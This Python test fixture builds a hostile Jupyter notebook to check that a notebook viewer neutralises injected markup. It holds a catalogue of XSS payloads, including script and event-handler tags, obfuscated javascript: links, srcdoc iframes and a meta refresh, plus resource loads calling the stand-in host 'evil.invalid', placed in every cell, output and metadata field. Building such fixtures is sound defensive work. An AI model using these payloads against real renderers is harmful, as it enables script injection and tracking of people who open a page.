"""A notebook that tries all that a notebook from elsewhere could try on who opens its page.

Every attack says its name: by `window.ran`, or by what it asks of a host that does not exist.
"""

import base64

from nbformat import NotebookNode, v4

HOST = "https://evil.invalid"
SVG = f'<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("{HOST}/svg")</script><image href="{HOST}/x"/></svg>'


def run(name: str) -> str:
    """Script that tells that it ran; without quotes of its own kind in HTML attributes."""
    return f"(window.ran=window.ran||[]).push('{name}')"


RUNS = {
    "script": f"<script>{run('script')}</script>",
    "onerror": f'<img src=x onerror="{run("onerror")}">',
    "svg onload": f'<svg onload="{run("svg onload")}"></svg>',
    "svg script": f"<svg><script>{run('svg script')}</script></svg>",
    "toggle": f'<details open ontoggle="{run("toggle")}"><summary>x</summary></details>',
    "autofocus": f'<input autofocus onfocus="{run("autofocus")}">',
    "srcdoc": """<iframe srcdoc="<script>parent.ran=(parent.ran||[]).concat('srcdoc')</script>"></iframe>""",
}
ASKS = {
    "pixel": f'<img src="{HOST}/pixel">',
    "set": f'<img srcset="{HOST}/set 1x">',
    "frame": f'<iframe src="{HOST}/frame"></iframe>',
    "object": f'<object data="{HOST}/object"></object>',
    "embed": f'<embed src="{HOST}/embed">',
    "attribute": f'<p style="background:url({HOST}/attribute)">x</p>',
    "sheet": f"<style>.stamp {{}} body {{ background: url({HOST}/sheet) }}</style>",
    "import": f"<style>@import url({HOST}/import);</style>",
    "link": f'<link rel="stylesheet" href="{HOST}/link">',
    "poster": f'<video poster="{HOST}/poster"></video>',
    "audio": f'<audio src="{HOST}/audio" autoplay></audio>',
    "input": f'<input type="image" src="{HOST}/input">',
    "svg-image": f'<svg><image href="{HOST}/svg-image"/></svg>',
    "table": f'<table background="{HOST}/table"><tr><td>x</td></tr></table>',
    "unclosed": f"<style>i{{}}</style ><style>b {{ background: url({HOST}/unclosed) }} </style\n><b>x</b>",
}
REFRESH = f'<meta http-equiv="refresh" content="0;url={HOST}/refresh">'
"""It leaves the page: a page of its own."""
LINKS = (
    f'<a class="attack" href="javascript:{run("link")}">x</a>',
    f'<a class="attack" href=" jav&#x09;ascript:{run("tab")}">x</a>',
    f'<form action="{HOST}/form"><button class="attack">x</button></form>',
)
"""What waits for a click."""


def hostile_notebook(html: str) -> NotebookNode:
    """A notebook with markup wherever a page takes something from it."""
    cells = [
        v4.new_markdown_cell(f"# A title {html}\n\n{html}"),
        v4.new_markdown_cell(f"## A section {html}\n\n[x](javascript:{run('markdown link')})\n\n{html}"),
        v4.new_raw_cell(html),
    ]
    outputs = [
        v4.new_output("display_data", {"text/html": html}),
        v4.new_output("display_data", {"text/markdown": html}),
        v4.new_output("display_data", {"text/plain": html}),
        v4.new_output("display_data", {"image/png": f'"><b></b>{html}', "text/plain": "no picture"}),
        v4.new_output("display_data", {"image/svg+xml": f"<svg>{html}</svg>", "text/plain": "no drawing"}),
        v4.new_output("display_data", {"application/javascript": run("javascript"), "text/plain": "no script"}),
        v4.new_output("display_data", {"application/pdf": base64.b64encode(html.encode()).decode(), "text/csv": html}),
        v4.new_output("display_data", {"text/html": f'<img src="data:image/svg+xml;base64,{_base64(SVG)}">'}),
        v4.new_output("display_data", {"text/html": f'<a href="data:text/html;base64,{_base64(html)}">x</a>'}),
        v4.new_output("stream", name="stdout", text=html),
        v4.new_output("error", ename=html, evalue=html, traceback=[html]),
    ]
    cells.append(v4.new_code_cell(f"'''</pre>{html}'''", outputs=outputs, metadata={"tags": [html]}))
    widget = {"application/vnd.jupyter.widget-state+json": {"state": {"x": {"model_name": html}}, "version_major": 2}}
    return v4.new_notebook(cells=cells, metadata={"title": html, "widgets": widget, "language_info": {"name": html}})


def _base64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()
